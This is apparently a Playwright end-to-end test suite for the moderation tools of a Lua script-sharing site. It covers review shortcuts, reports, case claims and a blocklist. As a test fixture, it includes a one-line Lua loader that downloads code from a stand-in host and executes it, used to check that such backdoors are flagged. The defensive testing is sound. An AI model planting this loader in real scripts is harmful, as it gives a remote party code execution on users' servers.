import { expect, type Locator, type Page } from '@playwright/test'

import { zipOf } from '#test-support/archives/zip.ts'
import { requireSuccess } from '#test-support/http-client.ts'

import { expectNoViolations } from './axe.ts'
import { test } from './fixtures.ts'
import { startModeratedApp, type ModeratedApp } from './moderated-app.ts'
import { uniqueName } from './users.ts'

test.describe.configure({ mode: 'default' })

/** The full run has the number that the work of a moderator was planned for. */
const reviews = process.env['TEST_FULL'] === 'false' ? 6 : 20

let app: ModeratedApp
test.beforeAll(async () => {
  app = await startModeratedApp()
})
test.afterAll(() => app.stop())

async function openReport(page: Page, dialog: Locator): Promise<void> {
  await page.getByRole('button', { name: 'Report this script' }).click()
  await expect(dialog).toBeVisible()
}

const publishOption = (page: Page) => page.getByRole('radio', { name: /^Publish/ })

test('a moderator rejects reviews with at most two key presses each, and the next case opens by itself', async ({
  browser,
}) => {
  const author = await app.register('author', 'verified')
  const names = Array.from({ length: reviews }, (_, index) => uniqueName(`Garage ${index + 1}`))
  for (const name of names) await app.submit(author, name)
  await app.expectWaiting(names.length)
  const page = await app.openPage(browser, await app.register('moderator', 'moderator'), '/admin/moderation')
  let presses = 0
  const press = async (key: string) => {
    presses += 1
    await page.keyboard.press(key)
  }
  await expect(page.getByRole('main').getByRole('listitem').filter({ hasText: 'Garage 1-' })).toBeVisible()

  for (const key of ['j', 'j', 'Enter']) await page.keyboard.press(key)
  await expect(page.getByRole('heading', { level: 1, name: names[1] ?? '' })).toBeVisible()
  await page.keyboard.press('m')
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeFocused()
  for (const key of ['Escape', 'u']) await page.keyboard.press(key)
  await expect(page.getByRole('heading', { level: 1, name: 'Moderation' })).toBeVisible()

  await press('Enter')
  for (const [index, name] of names.entries()) {
    await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
    const number = 2 + (index % 8)
    if (index % 2 === 0) {
      // Without waiting for the claim: the decision is kept for it.
      await press(String(number))
      await expect(page.getByRole('radio', { name: /^Reject/ })).toBeChecked()
      await press('Control+Enter')
    } else {
      await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
      await press(`Shift+Digit${number}`)
    }
  }

  await expect(page).toHaveURL('/admin/moderation')
  await expect(page.getByText('No versions are waiting for review.')).toBeVisible()
  expect(presses).toBeLessThanOrEqual(2 * reviews)
  const { body } = await requireSuccess(app.url, author, 'GET', '/api/cases/mine?limit=50')
  const decisions = body.cases.map(({ decision }: { decision: string }) => decision)
  expect(decisions).toEqual(names.map(() => 'rejected'))
  await page.close()
})

test('the key that publishes asks once for a version with a finding of severity high', async ({
  browser,
}) => {
  const author = await app.register('author', 'verified')
  const content = "PerformHttpRequest('https://example.com/x', function(_, body) load(body)() end)"
  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n"
  const archive = zipOf([
    { name: 'loader/fxmanifest.lua', content: manifest, deflate: true },
    { name: 'loader/server.lua', content, deflate: true },
  ])
  const name = uniqueName('Loader')
  await app.submit(author, name, archive)
  const plain = uniqueName('Plain')
  await app.submit(author, plain)
  await app.expectWaiting(2)
  const page = await app.openPage(browser, await app.register('moderator', 'moderator'), '/admin/moderation')
  const row = page.getByRole('main').getByRole('listitem').filter({ hasText: name })
  await expect(row.getByText(/Runs code that it downloads/)).toBeVisible()
  await row.getByRole('link').click()
  await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')

  await page.keyboard.press('p')
  await expect(page.getByText('This version has a high-severity finding')).toBeVisible()
  await expect(publishOption(page)).toBeChecked()
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
  await page.keyboard.press('p')
  await expect(page.getByRole('heading', { level: 1, name: plain })).toBeVisible()
  await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
  await page.keyboard.press('p')
  await expect(page.getByText('No versions are waiting for review.')).toBeVisible()
  await page.close()
})

test('a reported author responds, and both sides see the decision of a moderator', async ({ browser }) => {
  const author = await app.register('author', 'verified')
  const name = uniqueName('Towing')
  const id = await app.publish(author, name)
  const text = 'The same files are in another script, with another name in them.'

  const memberPage = await app.openPage(browser, await app.register('member'), `/scripts/${id}`)
  const dialog = memberPage.getByRole('dialog', { name: `Report ${name}` })
  await openReport(memberPage, dialog)
  await dialog.getByRole('button', { name: 'Send report' }).click()
  await expect(dialog.getByText('Please choose a reason')).toBeVisible()
  await expect(dialog.getByRole('combobox')).toBeFocused()
  await expectNoViolations(memberPage, [1440, 390])
  await dialog.getByRole('combobox').selectOption('stolen')
  await dialog.getByRole('textbox', { name: 'What did you see?' }).fill(text)
  await dialog.getByRole('textbox', { name: /^Links/ }).fill('https://example.com/original')
  await dialog.getByRole('button', { name: 'Send report' }).click()
  await memberPage.getByRole('dialog').getByRole('link', { name: 'See the case' }).click()
  await expect(memberPage.getByRole('heading', { level: 1, name })).toBeVisible()
  await expect(memberPage.getByText(text)).toBeVisible()
  const casePath = new URL(memberPage.url()).pathname
  const second = await app.register('member')
  await requireSuccess(app.url, second, 'POST', '/api/cases', {
    kind: 'report',
    scriptId: id,
    reason: 'misleading',
    text: 'The images show another script.',
  })

  const authorPage = await app.openPage(browser, author, '/notifications')
  await authorPage
    .getByRole('main')
    .getByRole('link', { name: new RegExp(name) })
    .first()
    .click()
  await expect(authorPage).toHaveURL(casePath)
  await authorPage.getByRole('textbox', { name: 'Message' }).fill('I wrote both of them.')
  await authorPage.getByRole('button', { name: 'Send message' }).click()
  await expect(authorPage.getByRole('listitem').filter({ hasText: 'I wrote both of them.' })).toBeVisible()
  await expect(authorPage.getByRole('textbox', { name: 'Message' })).toHaveValue('')
  await expectNoViolations(authorPage, [1440, 390])

  const page = await app.openPage(
    browser,
    await app.register('moderator', 'moderator'),
    '/admin/moderation?kind=report',
  )
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible()
  await expectNoViolations(page, [1440, 390])
  await page.setViewportSize({ width: 1440, height: 900 })
  await page.getByRole('link', { name, exact: true }).click()
  await expect(page.getByText('Claimed by you until')).toBeVisible()
  await expect(page.getByText('I wrote both of them.')).toBeVisible()
  await expect(
    page.getByRole('list', { name: 'Reports' }).getByRole('link', { name: second.username }),
  ).toBeVisible()
  await page.getByRole('button', { name: 'Write a message' }).click()
  await page.getByRole('radio', { name: 'Reporters' }).check()
  await page.getByRole('combobox', { name: 'Reporter' }).selectOption(second.username)
  await page.getByRole('textbox', { name: 'Message' }).fill('Which images?')
  await page.getByRole('button', { name: 'Send message' }).click()
  await expect(page.getByRole('listitem').filter({ hasText: `to ${second.username}` })).toContainText(
    'Which images?',
  )
  await memberPage.reload()
  await expect(memberPage.getByText(text)).toBeVisible()
  await expect(memberPage.getByText('Which images?')).toBeHidden()
  await expectNoViolations(page, [1440, 390])
  await page.setViewportSize({ width: 1440, height: 900 })
  await page.getByRole('radio', { name: /^Warn the author/ }).check()
  await page.getByRole('button', { name: 'Warn the author' }).click()
  const response = page.getByRole('textbox', { name: 'Response' })
  await expect(response).toHaveAccessibleDescription(/explain/)
  await response.fill('Please name the original in the description.')
  await page.getByRole('textbox', { name: /^Public note/ }).fill('The original is named now.')
  await page.getByRole('button', { name: 'Warn the author' }).click()
  await expect(page.getByText('No reports are waiting for a decision.')).toBeVisible()

  for (const party of [memberPage, authorPage]) {
    await party.reload()
    const result = party.getByRole('region', { name: 'Decision' })
    await expect(result.getByRole('heading', { name: 'Author warned' })).toBeVisible()
    await expect(result.getByText('Please name the original in the description.')).toBeVisible()
    await party.goto('/cases')
    await expect(party.getByRole('listitem').filter({ hasText: name }).first()).toBeVisible()
    await expectNoViolations(party, [1440, 390])
  }
  // Not by its reporter.
  await expect(memberPage.getByText('I wrote both of them.')).toHaveCount(0)

  const visitor = await browser.newContext({ baseURL: app.url, javaScriptEnabled: false })
  const log = await visitor.newPage()
  await log.goto('/moderation?decision=warned')
  const entry = log.getByRole('listitem').filter({ hasText: 'The original is named now.' })
  await expect(entry.getByRole('link', { name })).toHaveAttribute('href', `/scripts/${id}`)
  await visitor.close()
  await Promise.all([memberPage.close(), authorPage.close(), page.close()])
})

test('the author sees the place in the queue; another moderator sees who works on the case, and a second decision is rejected', async ({
  browser,
}) => {
  const author = await app.register('author', 'verified')
  const [first, second] = [
    await app.register('first', 'moderator'),
    await app.register('second', 'moderator'),
  ]
  const name = uniqueName('Hangar')
  const scriptId = await app.submit(author, name)
  await app.expectWaiting(1)
  const authorPage = await app.openPage(browser, author, `/scripts/${scriptId}`)
  const state = authorPage.getByRole('region', { name: 'State of the script' })
  await expect(state.getByText('Position 1 of 1')).toBeVisible()
  await expect(state.getByText('every version is reviewed here')).toBeVisible()
  await state.getByRole('link', { name: 'See the case' }).click()
  await expect(authorPage.getByRole('heading', { level: 1, name })).toBeVisible()
  const page = await app.openPage(browser, first, '/admin/moderation')
  await page.getByRole('link', { name, exact: true }).click()
  await expect(page.getByText('Claimed by you until')).toBeVisible()

  const late = await app.openPage(browser, second, '/admin/moderation')
  await expect(late.getByText(`Claimed by ${first.username}`)).toBeVisible()
  await late.getByRole('link', { name, exact: true }).click()
  await expect(late.getByText(`Claimed by ${first.username} until`)).toBeVisible()
  await expect(publishOption(late)).toBeDisabled()

  // Decided elsewhere, after the page was loaded.
  const id = new URL(page.url()).pathname.split('/').pop()
  await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
  await page.getByRole('textbox', { name: 'Response' }).fill('Please name the author of the hangar.')
  await page.keyboard.press('Escape')
  await requireSuccess(app.url, first, 'POST', `/api/moderation/cases/${id}/decide`, {
    decision: 'published',
  })
  await page.keyboard.press('p')
  await expect(page.getByRole('alert').filter({ hasText: /closed|decided/i })).toBeVisible()
  await expect(page.getByRole('heading', { name: 'Published' })).toBeVisible()
  // The typed text can still be copied.
  await expect(page.getByRole('textbox', { name: 'Your response' })).toHaveValue(
    'Please name the author of the hangar.',
  )
  await Promise.all([authorPage.close(), page.close(), late.close()])
})

test('a visitor who reports signs in first; the queue is empty, filtered and explained by keys', async ({
  browser,
  page,
}) => {
  const author = await app.register('author', 'verified')
  const id = await app.publish(author, uniqueName('Harbor'))
  await page.goto(`${app.url}/scripts/${id}`)
  const member = await app.register('member')
  const signIn = page.getByRole('dialog', { name: 'Sign In' })
  await openReport(page, signIn)
  await signIn.getByLabel('Email').fill(member.email)
  await signIn.getByLabel('Password', { exact: true }).fill(member.password)
  await signIn.getByRole('button', { name: 'Sign In', exact: true }).click()
  await expect(page.getByRole('dialog', { name: /^Report Harbor/ })).toBeVisible()

  const staff = await app.openPage(browser, app.site, '/admin/moderation?kind=takedown&claimed=me')
  await expect(staff.getByText('No cases match these filters.')).toBeVisible()
  await staff.keyboard.press('?')
  const keys = staff.getByRole('dialog', { name: 'Keys' })
  await expect(keys).toBeVisible()
  await expectNoViolations(staff, [1440, 390])
  await staff.keyboard.press('Escape')
  await expect(keys).toHaveCount(0)
  await staff.goto('/moderation')
  await expect(staff.getByText('Decided in the last 30 days')).toBeVisible()
  await expectNoViolations(staff, [1440, 390])
  await staff.goto('/admin')
  await expect(staff.getByText(/cases? (is|are) waiting/)).toBeVisible()
  await staff.close()
})

test('a decision puts a file, a host and texts of the reported script on the blocklist', async ({
  browser,
}) => {
  const author = await app.register('author', 'verified')
  const name = uniqueName('Loader')
  const files = Array.from({ length: 24 }, (_, n) => ({
    name: `loader/f${n}.lua`,
    content: `print(${n})`,
    deflate: true,
  }))
  const content = "PerformHttpRequest('https://cdn.loader.example/x', function() end)"
  const loader = { name: 'loader/server.lua', content, deflate: true }
  const id = await app.publish(author, name, zipOf([...files, loader]))
  const reporter = await app.register('reporter')
  const { body } = await requireSuccess(app.url, reporter, 'POST', '/api/cases', {
    kind: 'report',
    scriptId: id,
    reason: 'backdoor',
    text: 'It loads code from another server.',
  })
  const page = await app.openPage(browser, app.site, `/admin/moderation/${body.id}?kind=report`)
  await expect(page.getByText('Claimed by you until')).toBeVisible()
  const form = page.getByRole('form', { name: 'Decision' })
  await form.getByRole('radio', { name: /^Hide the script/ }).check()
  await form.getByRole('combobox', { name: 'Reason' }).selectOption('backdoor')
  await form.getByText('Files', { exact: true }).click()
  await form.getByRole('searchbox', { name: 'Find a file' }).fill('server')
  await form.getByRole('checkbox', { name: /server\.lua/ }).check()
  await form.getByText('Hosts', { exact: true }).click()
  await form.getByRole('checkbox', { name: 'cdn.loader.example' }).check()
  await form.getByRole('textbox', { name: 'Response' }).fill('It loads code from another server.')
  const texts = form.getByRole('textbox', { name: /^Texts of the code/ })
  await texts.fill('short')
  await expectNoViolations(page, [1440, 390])
  await page.setViewportSize({ width: 1440, height: 900 })
  await form.getByRole('button', { name: 'Hide the script' }).click()
  await expect(texts).toHaveAccessibleDescription(/A text must be 8 to 200 characters/)
  await texts.fill('loader_token = 1\nloader_token = 2')
  await expect(form.getByText(/contains it$/)).toHaveText([/^1 /, /^No /, /^No /])
  await form.getByRole('button', { name: 'Hide the script' }).click()
  await expect(page.getByText('No reports are waiting for a decision.')).toBeVisible()

  await page.goto('/admin/moderation/blocklist')
  const entries = page.getByRole('listitem').filter({ hasText: `Case #${body.id}` })
  for (const text of ['cdn.loader.example', 'loader_token = 1', 'loader_token = 2'])
    await expect(entries.filter({ hasText: text })).toHaveCount(1)
  await expect(entries).toHaveCount(4)
  await page.close()
})
